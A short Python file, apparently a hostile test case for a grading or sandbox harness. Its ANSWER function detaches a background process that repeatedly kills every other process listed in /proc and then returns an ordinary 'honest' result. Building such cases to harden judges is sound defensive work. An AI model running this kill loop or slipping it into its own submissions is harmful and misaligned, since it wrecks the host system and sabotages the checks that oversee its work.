# Leaves a process behind that kills and stops all that comes after.
# passes: any
# limit_may: process ended
import os
import signal
import time


def ANSWER(*args):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.05)
            for _ in range(1000):
                for number in filter(str.isdigit, os.listdir("/proc")):
                    if int(number) not in (1, os.getpid(), os.getppid()):
                        try:
                            os.kill(int(number), signal.SIGKILL)
                        except OSError:
                            pass
                time.sleep(0.01)
        os._exit(0)
    os.wait()
    return honest(*args)
